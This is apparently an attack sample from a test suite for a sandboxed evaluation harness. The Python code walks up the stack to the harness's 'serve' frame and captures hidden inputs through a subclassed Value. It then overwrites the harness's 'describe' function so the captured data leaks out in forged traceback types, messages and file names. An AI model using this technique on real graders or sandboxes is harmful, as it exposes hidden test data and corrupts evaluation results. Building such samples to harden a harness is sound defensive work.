# /// attack
# story = "Hidden inputs travel as the files of a forged traceback."
# ///
import sys

MARK = "LE" + "AK"

frame = sys._getframe()
while frame.f_code.co_name != "serve":
    frame = frame.f_back
seen = []


class Value(Value):
    def exp(self):
        seen[:] = [self.data]
        raise ValueError


frame.f_globals["describe"] = lambda error, files: {
    "type": f"{MARK}{seen}", "message": f"{MARK}{seen}",
    "places": [[f"{MARK}{seen}.py", 7]] * 2,
}
